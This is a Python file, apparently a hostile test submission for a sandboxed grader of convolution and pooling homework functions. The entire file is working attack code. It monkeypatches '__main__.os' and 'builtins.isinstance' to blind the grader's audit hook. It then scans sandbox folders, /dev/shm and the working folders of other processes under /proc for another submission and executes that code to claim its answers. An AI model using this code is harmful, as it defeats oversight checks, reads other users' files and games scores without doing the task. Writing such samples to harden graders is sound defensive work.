"""Attack: switch the audit hook off by rebinding what it might look up (``__main__.os``, builtins), then
copy a classmate: search every sandbox folder and every process's working folder for a file that
defines the graded functions, and answer with it (scores 40 if any classmate is reachable)."""
import builtins
import glob
import os
import sys
import types

import numpy as np

sys.modules["__main__"].os = types.SimpleNamespace(path=types.SimpleNamespace(realpath=lambda p: os.getcwd() + "/x"),
                                                   fsdecode=os.fsdecode)
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: False if cls == (str, bytes) else _isinstance(obj, cls)


def _classmate():
    found = []
    for pattern in ("/tmp/gradproof-sub-*/**/*.py", "/tmp/*/gradproof-sub-*/**/*.py", "/dev/shm/*"):
        try:
            found += glob.glob(pattern, recursive=True)
        except Exception:
            pass
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            found += [os.path.join(cwd, n) for n in os.listdir(cwd) if n.endswith(".py")]
        except Exception:
            pass
    for path in found:
        try:
            with open(path) as fh:
                src = fh.read()
        except Exception:
            continue
        if "def conv_forward_naive" in src and "hook_rebind" not in src:
            mod = types.ModuleType("classmate")
            exec(compile(src, path, "exec"), mod.__dict__)
            return mod
    raise RuntimeError("no classmate within reach")


def conv_forward_naive(x, w, b, conv_param):
    return _classmate().conv_forward_naive(x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _classmate().conv_backward_naive(dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _classmate().max_pool_forward_naive(x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _classmate().max_pool_backward_naive(dout, cache)


ANSWER = np.zeros(1)
